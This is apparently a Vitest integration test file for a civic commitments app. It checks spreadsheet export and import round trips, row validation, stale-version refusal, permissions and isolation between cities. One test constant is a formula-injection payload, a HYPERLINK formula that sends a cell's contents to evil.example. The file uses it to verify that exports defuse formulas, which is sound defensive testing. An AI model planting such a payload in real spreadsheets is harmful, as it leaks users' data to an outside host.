/**
 * Spreadsheet round trip through the same doors the browser uses: the export route (CSV and
 * XLSX), the upload action, the preview plan and the apply action. Bad rows are refused with a
 * reason, one bad or stale row applies nothing, formula injection is defused on export and undone
 * on import, and neither exports nor uploads cross from one city to another.
 */
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import ExcelJS from "exceljs";
import { NextRequest } from "next/server";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { SessionUser } from "@/lib/kernel/auth/current-user";

const session = vi.hoisted(() => ({ user: null as SessionUser | null }));
vi.mock("@/lib/kernel/auth/current-user", () => ({ getSessionUser: async () => session.user }));
vi.mock("next/cache", () => ({ revalidatePath: vi.fn(), revalidateTag: vi.fn() }));
vi.mock("next/headers", () => ({
  cookies: async () => ({ get: (name: string) => (name === "charta-locale" ? { value: "en" } : undefined) }),
  headers: async () => new Headers(),
}));

const { GET } = await import("@/app/api/cities/[city]/commitments/export/route");
const { uploadSpreadsheetAction, applySpreadsheetImportAction, discardSpreadsheetImportAction } =
  await import("@/app/(app)/[city]/workspace/framework/spreadsheet/actions");
const { loadImport } = await import("@/lib/features/commitments/spreadsheet/import-store");
const { loadPlanState } = await import("@/lib/features/commitments/spreadsheet/load-state");
const { planImport } = await import("@/lib/features/commitments/spreadsheet/plan-import");
const { COLUMNS } = await import("@/lib/features/commitments/spreadsheet/columns");
/** A column's position in the export (0-based in a CSV row). */
const at = (column: (typeof COLUMNS)[number]) => COLUMNS.indexOf(column);
const { auditedTransaction } = await import("@/lib/kernel/records/audited");
const { applyCommitmentChange } = await import("@/lib/features/commitments/apply-change");
const { cityDbForSchema } = await import("@/lib/kernel/db/city-clients");
const { controlDb } = await import("@/lib/kernel/db/control");
const { createTestCity, createUser } = await import("../helpers/cities");

type TestCity = Awaited<ReturnType<typeof createTestCity>>;
const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

let a: TestCity;
let b: TestCity;
let both: SessionUser;
let ownId: string;
const db = (c: TestCity = a) => cityDbForSchema(c.schemaName);
const byKey = (elementKey: string) => db().commitment.findUniqueOrThrow({ where: { elementKey } });

beforeAll(async () => {
  a = await createTestCity("sheet");
  b = await createTestCity("sheet");
  both = await createUser(`both-${a.slug}@example.org`);
  await controlDb().membership.createMany({
    data: [
      { userId: both.id, cityId: a.cityId, role: "officer" },
      { userId: both.id, cityId: b.cityId, role: "officer" },
    ],
  });
  await db().department.create({ data: { name: "Social Affairs" } });
  await db().department.create({ data: { name: "@evil" } });
  const own = await db().commitment.create({ data: { layer: "tool", title: INJECTION } });
  ownId = own.id;
  await db().commitment.updateMany({
    where: { id: ownId },
    data: { departmentId: (await db().department.findUniqueOrThrow({ where: { name: "@evil" } })).id },
  });
});

beforeEach(() => {
  session.user = a.users.officer;
});

async function exportFile(slug: string, format: "csv" | "xlsx") {
  const req = new NextRequest(`http://localhost/api/cities/${slug}/commitments/export?format=${format}`);
  return GET(req, { params: Promise.resolve({ city: slug }) });
}

async function exportCsv(): Promise<string[][]> {
  const res = await exportFile(a.slug, "csv");
  expect(res.status).toBe(200);
  return parse(
    Buffer.from(await res.arrayBuffer())
      .toString("utf8")
      .replace(/^\uFEFF/, ""),
  ) as string[][];
}

function upload(slug: string, name: string, content: Uint8Array<ArrayBuffer> | string) {
  const form = new FormData();
  form.append("file", new File([content], name));
  return uploadSpreadsheetAction(slug, form);
}

async function uploadId(slug: string, name: string, content: Uint8Array<ArrayBuffer> | string): Promise<string> {
  const r = await upload(slug, name, content);
  if (!r.ok) throw new Error(`upload failed: ${r.error.message}`);
  return r.data.importId;
}

async function preview(importId: string, city: TestCity = a, user: SessionUser = session.user!) {
  const stored = await loadImport(cityDbForSchema(city.schemaName), { cityId: city.cityId, userId: user.id }, importId);
  if (!stored) return null;
  return planImport(stored.table, (await loadPlanState(db(city), city.cityId)).state);
}

/** Edit rows of an exported matrix by key: { F1: { status: "planned" } }. */
function edit(matrix: string[][], changes: Record<string, Record<string, string>>): string[][] {
  const header = matrix[0]!;
  return matrix.map((row, i) => {
    if (i === 0) return row;
    const change = changes[row[0]!];
    return change ? header.map((col, j) => change[col] ?? row[j]!) : row;
  });
}

describe("export", () => {
  it("writes every commitment as CSV with a BOM, the city in the file name and the formula guard", async () => {
    const res = await exportFile(a.slug, "csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="charta-${a.slug}-commitments-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text).toContain("\r\n");
    const rows = parse(text.slice(1)) as string[][];
    expect(rows[0]).toEqual([...COLUMNS]);
    expect(rows).toHaveLength(22);
    expect(rows[1]!.slice(0, 2)).toEqual(["F1", "foundation"]);
    const own = rows.find((r) => r[0] === ownId)!;
    expect(own[at("title")]).toBe(`'${INJECTION}`);
    expect(own[at("department")]).toBe("'@evil");
  });

  it("answers 404 for another city's slug and 401 without a session", async () => {
    expect((await exportFile(b.slug, "csv")).status).toBe(404);
    expect((await exportFile("no-such-city", "xlsx")).status).toBe(404);
    session.user = null;
    expect((await exportFile(a.slug, "csv")).status).toBe(401);
    // Every role may read (framework.read): a council member exports too.
    session.user = a.users.council_member;
    expect((await exportFile(a.slug, "xlsx")).status).toBe(200);
  });
});

describe("CSV round trip", () => {
  it("previews every change, applies it as updates with notes, and leaves the formula-guarded cells as they were", async () => {
    const matrix = await exportCsv();
    const edited = edit(matrix, {
      F1: { status: "in_progress", progress: "40", note: "Kick-off held" },
      S1: { owner_email: a.users.officer.email, maturity: "initiated" },
      T1: { department: "Social Affairs", target_date: "2026-06-30" },
    });
    // Saved back the way Dutch Excel does: semicolons, no BOM.
    const importId = await uploadId(a.slug, "edited.csv", stringify(edited, { delimiter: ";" }));

    const plan = (await preview(importId))!;
    expect(plan.counts).toEqual({ rows: 21, change: 3, unchanged: 18, rejected: 0 });
    const f1 = plan.rows.find((r) => r.key === "F1")!;
    expect(f1.changes).toEqual([
      { field: "status", from: "not_started", to: "in_progress" },
      { field: "progress", from: "0", to: "40" },
    ]);
    expect(plan.rows.find((r) => r.key === "T1")!.changes).toEqual([
      { field: "department", from: "", to: "Social Affairs" },
      { field: "target_date", from: "", to: "2026-06-30" },
    ]);
    // The guarded title and department came back unchanged.
    expect(plan.rows.find((r) => r.key === ownId)!.outcome).toBe("unchanged");
    // Nothing is saved by the preview.
    expect((await byKey("F1")).status).toBe("not_started");

    const applied = await applySpreadsheetImportAction(a.slug, { importId });
    expect(applied).toEqual({ ok: true, data: { applied: 3, updates: 2 } });
    const after = await byKey("F1");
    expect(after).toMatchObject({ status: "in_progress", progress: 40, version: 2, updatedBy: a.users.officer.id });
    const updates = await db().commitmentUpdate.findMany({ where: { commitmentId: after.id } });
    expect(updates).toEqual([
      expect.objectContaining({
        source: "import",
        note: "Kick-off held",
        authorId: a.users.officer.id,
        fromStatus: "not_started",
        toStatus: "in_progress",
        toProgress: 40,
      }),
    ]);
    const s1 = await byKey("S1");
    expect(s1).toMatchObject({ ownerId: a.users.officer.id, maturity: "initiated" });
    expect((await db().commitmentUpdate.findFirstOrThrow({ where: { commitmentId: s1.id } })).note).toBe("Imported from spreadsheet");
    const t1 = await byKey("T1");
    expect(t1.targetDate?.toISOString()).toBe("2026-06-30T00:00:00.000Z");
    expect(t1.lastUpdateAt.getTime()).toBe(t1.createdAt.getTime()); // only untracked fields: not an update
    // The upload is gone once applied; applying again finds nothing.
    expect(await preview(importId)).toBeNull();
    expect(await applySpreadsheetImportAction(a.slug, { importId })).toMatchObject({ ok: false, error: { code: "not_found" } });
    // Export → import unchanged is a no-op.
    const again = await uploadId(a.slug, "again.csv", stringify(await exportCsv()));
    expect((await preview(again))!.counts).toMatchObject({ change: 0, rejected: 0 });
  });

  it("refuses bad rows with their reason and applies nothing from the file", async () => {
    const matrix = await exportCsv();
    const edited = edit(matrix, {
      F2: { status: "planned" },
      F3: { status: "done" },
      F4: { progress: "150" },
      S2: { owner_email: "stranger@example.org" },
      S3: { department: "Finance" },
      S4: { start_date: "31/12/2025" },
    });
    edited.push(COLUMNS.map((c) => ({ key: "X9", status: "planned", progress: "0", maturity: "none", version: "1" })[c as string] ?? ""));
    const importId = await uploadId(a.slug, "bad.csv", stringify(edited));
    const plan = (await preview(importId))!;
    expect(plan.counts).toMatchObject({ change: 1, rejected: 6 });
    const reasons = Object.fromEntries(plan.rows.filter((r) => r.outcome === "rejected").map((r) => [r.key, r.problems.map((p) => p.code)]));
    expect(reasons).toEqual({
      F3: ["statusInvalid"],
      F4: ["progressInvalid"],
      S2: ["ownerUnknown"],
      S3: ["departmentUnknown"],
      S4: ["dateInvalid"],
      X9: ["unknownKey"],
    });
    expect(plan.rows.find((r) => r.key === "X9")!.line).toBe(23);

    const result = await applySpreadsheetImportAction(a.slug, { importId });
    expect(result).toMatchObject({
      ok: false,
      error: { code: "validation", message: "The import was not applied because rows are refused. Nothing was saved." },
    });
    expect((await byKey("F2")).status).toBe("not_started");
  });

  it("refuses the whole file when one row was edited from an outdated version, and when a row goes stale after the preview", async () => {
    const matrix = await exportCsv();
    // Someone saves F2 after the export.
    const f2 = await byKey("F2");
    await auditedTransaction(db(), a.users.city_admin.id, (tx, audit) =>
      applyCommitmentChange(tx, audit, a.users.city_admin.id, f2, f2.version, { status: "in_place", note: "Done", source: "web" }),
    );
    const staleId = await uploadId(a.slug, "stale.csv", stringify(edit(matrix, { F2: { status: "planned" }, F3: { status: "planned" } })));
    const plan = (await preview(staleId))!;
    expect(plan.rows.find((r) => r.key === "F2")!.problems).toEqual([{ code: "versionStale", vars: { version: "1", current: 2 } }]);
    expect(plan.applicable).toBe(false);
    expect((await applySpreadsheetImportAction(a.slug, { importId: staleId })).ok).toBe(false);
    expect((await byKey("F3")).status).toBe("not_started");

    // A clean preview, then F4 is saved by someone else before "apply": nothing is applied.
    const fresh = await exportCsv();
    const id = await uploadId(a.slug, "race.csv", stringify(edit(fresh, { F3: { status: "planned" }, F4: { status: "planned" } })));
    expect((await preview(id))!.applicable).toBe(true);
    const f4 = await byKey("F4");
    await auditedTransaction(db(), a.users.city_admin.id, (tx, audit) =>
      applyCommitmentChange(tx, audit, a.users.city_admin.id, f4, f4.version, { progress: 10, note: "Meanwhile", source: "web" }),
    );
    expect(await applySpreadsheetImportAction(a.slug, { importId: id })).toMatchObject({ ok: false });
    expect((await byKey("F3")).status).toBe("not_started");
    expect((await byKey("F4")).status).toBe("not_started");
  });
});

describe("XLSX round trip", () => {
  it("exports typed cells (text never becomes a formula) and imports edits made in a spreadsheet program", async () => {
    const res = await exportFile(a.slug, "xlsx");
    expect(res.headers.get("content-disposition")).toContain(`charta-${a.slug}-commitments-`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet("Commitments")!;
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Commitments", "Read me"]);
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual([...COLUMNS]);
    const rowOf = (key: string) => {
      let found: ExcelJS.Row | undefined;
      ws.eachRow((row) => {
        if (row.getCell(1).value === key) found = row;
      });
      return found!;
    };
    const titleCell = rowOf(ownId).getCell(at("title") + 1);
    expect(titleCell.type).toBe(ExcelJS.ValueType.String);
    expect(titleCell.value).toBe(INJECTION);
    expect(titleCell.formula).toBeUndefined();

    const t2 = rowOf("T2");
    t2.getCell(at("status") + 1).value = "needs_review";
    t2.getCell(at("progress") + 1).value = 75;
    t2.getCell(at("target_date") + 1).value = new Date(Date.UTC(2027, 0, 15));
    t2.getCell(at("note") + 1).value = { richText: [{ text: "Checked " }, { text: "with the council" }] };
    const buf = new Uint8Array(await wb.xlsx.writeBuffer());

    const importId = await uploadId(a.slug, "edited.xlsx", buf);
    const plan = (await preview(importId))!;
    expect(plan.counts).toMatchObject({ change: 1, rejected: 0 });
    expect(plan.rows.find((r) => r.key === "T2")!.changes).toEqual([
      { field: "status", from: "not_started", to: "needs_review" },
      { field: "progress", from: "0", to: "75" },
      { field: "target_date", from: "", to: "2027-01-15" },
    ]);
    expect(await applySpreadsheetImportAction(a.slug, { importId })).toMatchObject({ ok: true, data: { applied: 1 } });
    const after = await byKey("T2");
    expect(after).toMatchObject({ status: "needs_review", progress: 75 });
    expect((await db().commitmentUpdate.findFirstOrThrow({ where: { commitmentId: after.id } })).note).toBe("Checked with the council");
  });
});

describe("uploads", () => {
  it("refuses unusable files with a message and roles without commitment.edit", async () => {
    expect(await upload(a.slug, "notes.pdf", "%PDF-1.7")).toMatchObject({ ok: false, error: { code: "validation", message: "Upload an .xlsx or .csv file." } });
    expect(await upload(a.slug, "x.csv", "title,status\nA,planned\n")).toMatchObject({
      ok: false,
      error: { message: "The file lacks the column(s) key, version. Start from a download of this page and keep its first row." },
    });
    expect(await upload(a.slug, "big.csv", "key,version\n" + "x".repeat(2 * 1024 * 1024))).toMatchObject({ ok: false, error: { code: "validation" } });
    expect(await upload(a.slug, "fake.xlsx", new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]))).toMatchObject({ ok: false, error: { code: "validation" } });
    expect(await uploadSpreadsheetAction(a.slug, new FormData())).toMatchObject({ ok: false, error: { message: "Choose a file to upload." } });
    session.user = a.users.council_member;
    expect(await upload(a.slug, "x.csv", "key,version\nF1,1\n")).toMatchObject({ ok: false, error: { code: "forbidden" } });
  });

  it("keeps an upload to its city and its uploader", async () => {
    const csv = stringify(edit(await exportCsv(), { F1: { note: "x" } }));
    // A member of both cities uploads in B and tries to apply the upload in A.
    session.user = both;
    const inB = await uploadId(b.slug, "b.csv", "key,version,status\nF1,1,planned\n");
    expect(await applySpreadsheetImportAction(a.slug, { importId: inB })).toMatchObject({ ok: false, error: { code: "not_found" } });
    expect(await preview(inB, a, both)).toBeNull();
    expect((await byKey("F1")).status).toBe("in_progress");
    // Another officer of the same city cannot apply or discard it either.
    session.user = a.users.officer;
    const mine = await uploadId(a.slug, "mine.csv", csv);
    session.user = a.users.city_admin;
    expect(await applySpreadsheetImportAction(a.slug, { importId: mine })).toMatchObject({ ok: false, error: { code: "not_found" } });
    expect(await discardSpreadsheetImportAction(a.slug, { importId: mine })).toMatchObject({ ok: true, data: { discarded: false } });
    session.user = a.users.officer;
    expect(await discardSpreadsheetImportAction(a.slug, { importId: mine })).toMatchObject({ ok: true, data: { discarded: true } });
    expect(await preview(mine)).toBeNull();
    // B's upload applies in B.
    session.user = both;
    expect(await applySpreadsheetImportAction(b.slug, { importId: inB })).toMatchObject({ ok: true, data: { applied: 1 } });
    expect((await db(b).commitment.findUniqueOrThrow({ where: { elementKey: "F1" } })).status).toBe("planned");
  });
});
